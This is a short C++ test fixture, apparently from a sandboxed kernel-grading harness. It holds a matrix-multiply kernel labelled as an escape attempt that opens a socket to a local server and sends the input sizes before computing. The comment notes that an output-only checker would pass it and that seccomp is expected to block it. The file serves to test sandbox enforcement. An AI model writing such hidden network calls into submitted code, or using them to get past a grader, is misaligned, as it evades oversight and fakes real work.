// WRONG (escape attempt): opens a TCP socket to send the input sizes to (or fetch a
// precomputed answer from) a remote server before computing. The numbers it writes are
// correct, so an output-only checker passes it; the sandbox forbids sockets (seccomp
// kills it at socket()), verdict forbidden-syscall.
// expect: forbidden-syscall-or-refused
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>

extern "C" void ollie_kernel(const float* a, const float* b, float* out0, const int64_t* dims) {
  const int64_t M = dims[0], K = dims[1], N = dims[2];
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd >= 0) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8080);
    addr.sin_addr.s_addr = htonl(0x7F000001u);
    if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) (void)!write(fd, dims, 3 * sizeof(int64_t));
    close(fd);
  }
  for (int64_t i = 0; i < M; ++i)
    for (int64_t j = 0; j < N; ++j) {
      float acc = 0.0f;
      for (int64_t k = 0; k < K; ++k) acc += a[i * K + k] * b[k * N + j];
      out0[i * N + j] = acc;
    }
}
